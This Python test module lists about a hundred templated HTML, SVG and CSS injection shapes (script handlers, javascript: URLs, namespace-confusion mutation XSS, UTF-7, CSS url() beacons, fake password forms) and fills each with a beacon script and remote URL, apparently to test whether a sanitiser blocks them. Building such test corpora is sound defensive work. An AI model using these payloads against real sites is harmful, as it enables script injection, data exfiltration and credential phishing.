"""HTML that wants to act, load, leave its frame or look like us: shapes of RELIABILITY §4.1 in our own words.

`{js}` stands for a script that calls the beacon, `{url}` for a remote address that counts being asked.
"""

from __future__ import annotations

CLASSES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{js}</script>",
        "<script src={url}></script>",
        "<SCRIPT type=module>{js}</SCRIPT>",
        '<img src=x onerror="{js}">',
        "<img src=x onerror\n=\n'{js}'>",
        '<body onload="{js}">',
        '<details open ontoggle="{js}">x</details>',
        '<input autofocus onfocus="{js}">',
        '<a href="javascript:{js}" id=a>x</a>',
        '<a href="j&#x61vascript:{js}">x</a>',
        '<a href="jav&#9;ascript:{js}">x</a>',
        '<a href=" \x01javascript:{js}">x</a>',
        "<a href=vbscript:msgbox>x</a>",
        '<a href="data:text/html,<script>{js}</script>">x</a>',
        "<a href=\"data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></x>\">x</a>",
        '<base href="javascript:/a/"><a href="//{js}">x</a>',
        '<map name=m><area href="javascript:{js}" shape=default></map><img usemap=#m src=x>',
        '<marquee onstart="{js}">x</marquee>',
        '<video><source onerror="{js}"></video>',
        '<audio src=x onerror="{js}"></audio>',
        '<iframe srcdoc="<script>{js}</script>"></iframe>',
        '<iframe src="javascript:{js}"></iframe>',
        '<object data="data:text/html,<script>{js}</script>"></object>',
        '<embed src="data:text/html,<script>{js}</script>">',
    ),
    "svg": (
        '<svg onload="{js}"></svg>',
        "<svg><script>{js}</script></svg>",
        '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
        '<svg><animate attributeName=href values="javascript:{js}" /><a id=x><text>x</text></a></svg>',
        '<svg><set attributeName="href " to="javascript:{js}" /></svg>',
        '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{js}'/>#x\"></use></svg>",
        '<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>',
        '<svg><image href="{url}"></image></svg>',
        '<svg><filter><feImage href="{url}"/></filter></svg>',
        '<svg><rect fill="url({url}#a)"></rect></svg>',
        "<svg><style>@import '{url}';</style></svg>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>\">",
    ),
    "namespaces": (
        '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>',
        '<math><annotation-xml encoding="text/html"><img src=x onerror="{js}"></annotation-xml></math>',
        "<noscript><p title=\"</noscript><img src=x onerror='{js}'>\"></noscript>",
        '<!--><img src=x onerror="{js}">-->',
        '<!--!><img src=x onerror="{js}">',
        '<![CDATA[><img src=x onerror="{js}">]]>',
        '<x xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></x>',
        '<style><!--</style><img src=x onerror="{js}">--></style>',
        "<title><a title=\"</title><img src=x onerror='{js}'>\">",
        "<textarea><a title=\"</textarea><img src=x onerror='{js}'>\">",
        "<xmp><p title=\"</xmp><svg/onload='{js}'>\">",
        '<template><img src=x onerror="{js}"></template>',
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror='{js}'>\">",
        '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">',
        "<a title=\"<img src=x onerror='{js}'>\">x</a>",
        '\ufeff<img src=x onerror="{js}">',
        '<img/src=x/onerror="{js}">',
        "<scr<script>ipt>{js}</scr</script>ipt>",
        '<plaintext><img src=x onerror="{js}">',
    ),
    "styles": (
        "<style>@import url({url});</style>",
        "<style>body{{background:url({url})}}</style>",
        "<style>@font-face{{font-family:x;src:url({url})}} p{{font-family:x}}</style><p>x</p>",
        '<p style="background:url({url})">x</p>',
        '<p style="background-image:image-set(url({url}) 1x)">x</p>',
        '<p style="list-style:url({url});display:list-item">x</p>',
        '<p style="cursor:url({url}),auto">x</p>',
        '<p style="content:url({url})">x</p>',
        '<p style="width:expression({js})">x</p>',
        '<p style="b\\61ckground:\\75rl({url})">x</p>',
        '<p style="background:/**/url(/**/{url})">x</p>',
        '<p style="--a:url({url});background:var(--a)">x</p>',
        '<p style="-moz-binding:url({url}#x);behavior:url({url})">x</p>',
        '<p style="border-image:url({url}) 1">x</p>',
        '<p style="mask:url({url});filter:url({url})">x</p>',
        '<p style="shape-outside:url({url});float:left">x</p>',
        '<div style="position:fixed!important;inset:0;z-index:9;background:#fff">x</div>',
        '<div style="position:/**/fixed;top:0">x</div>',
    ),
    "remote": (
        "<img src={url}>",
        '<img srcset="{url} 1x, {url} 2x">',
        "<picture><source srcset={url}><img src={url}></picture>",
        "<body background={url}>",
        "<table background={url}><tr><td background={url}>x</td></tr></table>",
        "<video poster={url} src={url} autoplay></video>",
        "<audio src={url} autoplay></audio>",
        "<input type=image src={url}>",
        "<link rel=stylesheet href={url}>",
        "<link rel=preload as=image href={url}>",
        "<link rel=prefetch href={url}>",
        "<link rel=icon href={url}>",
        "<link rel=dns-prefetch href={url}>",
        "<object data={url}></object>",
        "<embed src={url}>",
        "<iframe src={url}></iframe>",
        "<frameset><frame src={url}></frameset>",
        '<meta http-equiv=refresh content="0;url={url}">',
        '<a href="https://a.example/" ping={url}>x</a>',
        '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{url}"]}}]}}</script>',
        "<track src={url}><source src={url}>",
        "<bgsound src={url}>",
        "<applet archive={url} code=a></applet>",
    ),
    "redress": (
        "<form action={url}><input type=password name=p><button>ログイン</button></form>",
        "<form id=f action={url}></form><button form=f formaction={url}>x</button>",
        "<a href={url} target=_top>x</a>",
        "<form action={url} target=_top><input name=q></form>",
        "<dialog open>ログインし直してください</dialog>",
        "<button popovertarget=x>x</button><div id=x popover>x</div>",
        "<input name=csrfmiddlewaretoken value=x>",
        "<a id=getElementById name=body>x</a><img name=cookie>",
        '<keygen><isindex action="javascript:{js}">',
    ),
    "charsets": (
        "+ADw-script+AD4-{js}+ADw-/script+AD4-",
        "\x1b$B<script>{js}</script>\x1b(B",
        '<img alt="\u0081" onerror="{js}" src=x>',
        "<meta charset=utf-7>+ADw-img src=x onerror={js}+AD4-",
        '\u2028<img src=x\u2029onerror="{js}">',
        "<img src=`x` onerror=`{js}`>",
    ),
}
"""Name of the class → shapes."""


def shapes(js: str, url: str) -> list[tuple[str, str]]:
    """(class, HTML) of every shape, aimed at a beacon; each carries its own number behind `?`."""
    found: list[tuple[str, str]] = []
    for name, templates in CLASSES.items():
        for template in templates:
            mark = f"{name}-{len(found)}"
            aimed = template.replace("{{", "\x02").replace("}}", "\x03")
            aimed = aimed.replace("{js}", js.replace("MARK", mark)).replace("{url}", f"{url}?{mark}")
            found.append((name, aimed.replace("\x02", "{").replace("\x03", "}")))
    return found
